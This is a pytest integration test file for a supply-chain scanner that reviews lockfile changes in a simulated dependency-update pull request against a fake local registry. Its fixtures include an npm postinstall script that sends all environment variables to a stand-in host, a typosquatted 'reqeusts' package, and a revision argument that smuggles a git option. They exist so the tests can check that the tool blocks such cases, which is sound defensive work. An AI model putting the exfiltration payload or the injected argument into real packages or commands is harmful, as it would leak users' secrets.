"""``diff --lockfiles``: a whole update pull request, on a git repository built here, against a real local registry."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from importlib import resources
from pathlib import Path

import jsonschema
import pytest

from chainwarden.analyzers import VetOptions
from chainwarden.analyzers.lockdiff import review_lockfiles
from chainwarden.cli import main
from chainwarden.models import Ecosystem, Severity
from integration.fake_registry import FakeRegistry, build_npm_tarball, build_wheel, serve

pytestmark = pytest.mark.integration

EVIL_INSTALL = (
    "const https = require('https');\nhttps.get('https://c.example.invalid/?e=' + JSON.stringify(process.env));\n"
)


@pytest.fixture
def registry() -> Iterator[FakeRegistry]:
    with serve() as running:
        old = build_npm_tarball("flat-util", "1.0.0", {"index.js": "module.exports = 1;\n"}, {})
        new = build_npm_tarball(
            "flat-util",
            "1.0.1",
            {"index.js": "module.exports = 1;\n", "install.js": EVIL_INSTALL},
            {"scripts": {"postinstall": "node install.js"}},
        )
        running.add_npm("flat-util", "1.0.0", old, maintainers=("alice",))
        running.add_npm("flat-util", "1.0.1", new, maintainers=("alice", "mallory"), publisher="mallory")
        for version in ("1.3.0", "1.3.1"):
            body = f"module.exports = function leftPad() {{ return '{version}'; }};\n"
            running.add_npm("left-pad", version, build_npm_tarball("left-pad", version, {"index.js": body}, {}))
        for version in ("1.0", "1.1"):
            code = {"tidy_lib/__init__.py": f"VERSION = '{version}'\n"}
            running.add_pypi(*build_wheel("tidy-lib", version, code), upload_time="2019-01-01T00:00:00Z")
        running.add_pypi(
            *build_wheel("reqeusts", "2.0.0", {"reqeusts/__init__.py": ""}), upload_time="2019-01-01T00:00:00Z"
        )
        yield running


def _npm_lock(packages: dict[str, str]) -> str:
    entries: dict[str, object] = {"": {"name": "app", "version": "1.0.0", "dependencies": dict.fromkeys(packages, "*")}}
    for name, version in packages.items():
        entries[f"node_modules/{name}"] = {
            "version": version,
            "resolved": f"https://registry.npmjs.org/{name}/-/{name}-{version}.tgz",
        }
    document = {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True, "packages": entries}
    return json.dumps(document, indent=2)


def _git(repo: Path, *args: str) -> str:
    env = {
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.invalid",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@example.invalid",
        "GIT_CONFIG_GLOBAL": "/dev/null",
        "GIT_CONFIG_NOSYSTEM": "1",
        "PATH": "/usr/bin:/bin",
    }
    done = subprocess.run(["git", "-C", str(repo), *args], capture_output=True, text=True, env=env, check=True)
    return done.stdout.strip()


def _write(root: Path, npm: dict[str, str], pypi: dict[str, str]) -> None:
    (root / "web").mkdir(parents=True, exist_ok=True)
    (root / "web" / "package.json").write_text(json.dumps({"name": "app", "dependencies": dict.fromkeys(npm, "*")}))
    (root / "web" / "package-lock.json").write_text(_npm_lock(npm))
    (root / "requirements.txt").write_text("".join(f"{name}=={version}\n" for name, version in pypi.items()))


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """main: flat-util 1.0.0, left-pad 1.3.0, tidy-lib 1.0, six; the update branch bumps, adds and removes."""
    root = tmp_path / "repo"
    root.mkdir()
    _git(root, "init", "-q", "-b", "main")
    _write(root, {"flat-util": "1.0.0", "left-pad": "1.3.0"}, {"tidy-lib": "1.0", "six": "1.16.0"})
    (root / "README.md").write_text("app\n")
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "base")
    _git(root, "checkout", "-q", "-b", "renovate/all")
    _write(root, {"flat-util": "1.0.1", "left-pad": "1.3.1"}, {"tidy-lib": "1.1", "reqeusts": "2.0.0"})
    _git(root, "commit", "-q", "-am", "update all")
    _git(root, "checkout", "-q", "main")
    return root


def _options(registry: FakeRegistry, tmp_path: Path, **extra: object) -> VetOptions:
    return VetOptions(pypi_url=registry.pypi_url, npm_url=registry.npm_url, cache_dir=tmp_path / "cache", **extra)  # type: ignore[arg-type]


def test_a_renovate_branch_gets_one_review(registry: FakeRegistry, repo: Path, tmp_path: Path) -> None:
    review = review_lockfiles("main", "renovate/all", repo=repo, options=_options(registry, tmp_path))
    assert review.lockfiles == ("requirements.txt", "web/package-lock.json")
    by_name = {r.change.name: r for r in review.reviews}
    assert {name: (r.change.old_version, r.change.new_version) for name, r in by_name.items()} == {
        "flat-util": ("1.0.0", "1.0.1"),
        "left-pad": ("1.3.0", "1.3.1"),
        "tidy-lib": ("1.0", "1.1"),
        "reqeusts": (None, "2.0.0"),
    }
    assert [(c.name, c.old_version) for c in review.removed] == [("six", "1.16.0")]
    assert by_name["flat-util"].verdict == "block"
    rules = {f.rule_id for f in by_name["flat-util"].findings}
    assert {"update-new-install-hook", "update-maintainers-changed", "update-new-capability"} <= rules
    assert by_name["left-pad"].verdict == "ok"
    assert by_name["tidy-lib"].verdict == "ok"
    assert by_name["tidy-lib"].bump == "minor"
    squat = by_name["reqeusts"]
    assert squat.verdict == "block"
    dependency = next(f for f in squat.findings if f.rule_id == "update-new-dependency")
    assert dependency.severity is Severity.HIGH
    assert any("requests" in e for e in dependency.evidence)
    assert review.verdict == "block"
    # every finding points at the lockfile line that declares the package, for pull-request annotations
    hook = next(f for f in by_name["flat-util"].findings if f.rule_id == "update-new-install-hook")
    assert hook.location is not None
    assert hook.location.path == "web/package-lock.json"
    assert hook.location.line is not None
    assert hook.location.line > 1
    assert any("install.js" in e for e in hook.evidence)
    # the working tree was never touched
    assert _git(repo, "status", "--porcelain") == ""
    assert _git(repo, "rev-parse", "--abbrev-ref", "HEAD") == "main"


def test_cli_json_sarif_and_exit_codes(
    registry: FakeRegistry,
    repo: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    monkeypatch.chdir(repo)
    urls = ["--pypi-url", registry.pypi_url, "--npm-url", registry.npm_url]
    assert main(["diff", "--lockfiles", "main..renovate/all", *urls, "-f", "json", "--fail-on", "high"]) == 1
    document = json.loads(capsys.readouterr().out)
    summary = document["lockfiles"]
    assert summary["verdict"] == "block"
    assert {c["name"]: c["verdict"] for c in summary["changes"]} == {
        "flat-util": "block",
        "left-pad": "ok",
        "tidy-lib": "ok",
        "reqeusts": "block",
    }
    assert summary["removed"] == [{"ecosystem": "pypi", "name": "six", "old_version": "1.16.0"}]

    assert main(["diff", "--lockfiles", "main", "renovate/all", *urls, "-f", "sarif"]) == 0
    log = json.loads(capsys.readouterr().out)
    schema = resources.files("chainwarden.report").joinpath("schemas/sarif-schema-2.1.0.json").read_text("utf-8")
    jsonschema.validate(log, json.loads(schema))
    uris = {
        r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        for r in log["runs"][0]["results"]
        if r.get("locations")
    }
    assert uris == {"web/package-lock.json", "requirements.txt"}

    assert main(["diff", "--lockfiles", "main..renovate/all", *urls]) == 0
    table = capsys.readouterr().out
    assert "flat-util 1.0.0 → 1.0.1" in table
    assert "reqeusts 2.0.0 (new)" in table


def test_a_clean_update_passes_the_gate(
    registry: FakeRegistry,
    repo: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    _git(repo, "checkout", "-q", "-b", "safe")
    _write(repo, {"flat-util": "1.0.0", "left-pad": "1.3.1"}, {"tidy-lib": "1.1", "six": "1.16.0"})
    _git(repo, "commit", "-q", "-am", "safe bumps")
    urls = ["--pypi-url", registry.pypi_url, "--npm-url", registry.npm_url]
    code = main(["diff", "--lockfiles", "main..safe", "--repo", str(repo), *urls, "-f", "json", "--fail-on", "medium"])
    assert code == 0
    document = json.loads(capsys.readouterr().out)
    assert document["lockfiles"]["verdict"] == "ok"
    assert [c["name"] for c in document["lockfiles"]["changes"]] == ["left-pad", "tidy-lib"]


def test_two_directories_and_the_working_tree(registry: FakeRegistry, repo: Path, tmp_path: Path) -> None:
    old, new = tmp_path / "old", tmp_path / "new"
    _write(old, {"left-pad": "1.3.0"}, {})
    _write(new, {"left-pad": "1.3.1"}, {})
    review = review_lockfiles(str(old), str(new), options=_options(registry, tmp_path))
    assert [(r.change.name, r.verdict) for r in review.reviews] == [("left-pad", "ok")]
    # BASE.. compares the revision with the uncommitted working tree
    _write(repo, {"flat-util": "1.0.0", "left-pad": "1.3.1"}, {"tidy-lib": "1.0", "six": "1.16.0"})
    review = review_lockfiles("main", "", repo=repo, options=_options(registry, tmp_path))
    assert [(r.change.name, r.change.new_version) for r in review.reviews] == [("left-pad", "1.3.1")]


def test_what_cannot_be_reviewed_never_passes(
    repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(repo)
    code = main(["diff", "--lockfiles", "main..renovate/all", "--offline", "-f", "json", "--fail-on", "critical"])
    assert code == 1
    document = json.loads(capsys.readouterr().out)
    assert document["lockfiles"]["verdict"] == "unreviewed"
    assert {c["verdict"] for c in document["lockfiles"]["changes"]} == {"unreviewed"}


def test_bad_revisions_are_usage_errors(
    repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(repo)
    assert main(["diff", "--lockfiles", "main..no-such-branch", "--offline"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("chainwarden: error: no-such-branch: not a commit")
    assert err.count("\n") == 1
    assert main(["diff", "--lockfiles", "--offline", "main..--output=/tmp/x"]) == 2
    capsys.readouterr()
    monkeypatch.chdir(tmp_path)
    assert main(["diff", "--lockfiles", "main..renovate/all", "--offline"]) == 2
    assert "not a commit" in capsys.readouterr().err
    empty = tmp_path / "empty"
    empty.mkdir()
    assert main(["diff", "--lockfiles", str(empty), str(empty), "--offline"]) == 2
    assert "nothing to review" in capsys.readouterr().err


def test_internal_packages_are_not_fetched_from_the_public_registry(
    registry: FakeRegistry, repo: Path, tmp_path: Path
) -> None:
    from chainwarden.analyzers.registry_client import DEFAULT_PYPI, RegistryClient
    from chainwarden.config import Config, Internal

    config = Config(internal=Internal(patterns=("tidy-*", "reqeusts")))
    # PyPI is the public index here: an internal name's public copy may be an attacker's, so it is never fetched
    with RegistryClient(pypi_url=DEFAULT_PYPI, npm_url=registry.npm_url, cache_dir=tmp_path / "cache") as client:
        review = review_lockfiles("main", "renovate/all", repo=repo, config=config, client=client)
    pypi = {r.change.name: r for r in review.reviews if r.change.ecosystem is Ecosystem.PYPI}
    assert {name: r.verdict for name, r in pypi.items()} == {"tidy-lib": "unreviewed", "reqeusts": "unreviewed"}
    assert all("internal package" in (r.reason or "") for r in pypi.values())
    assert {r.change.name: r.verdict for r in review.reviews if r.change.ecosystem is Ecosystem.NPM} == {
        "flat-util": "block",
        "left-pad": "ok",
    }
    # behind a configured registry, internal packages are reviewed like any other
    with RegistryClient(pypi_url=registry.pypi_url, npm_url=registry.npm_url, cache_dir=tmp_path / "cache") as client:
        review = review_lockfiles("main", "renovate/all", repo=repo, config=config, client=client)
    assert next(r for r in review.reviews if r.change.name == "tidy-lib").verdict == "ok"
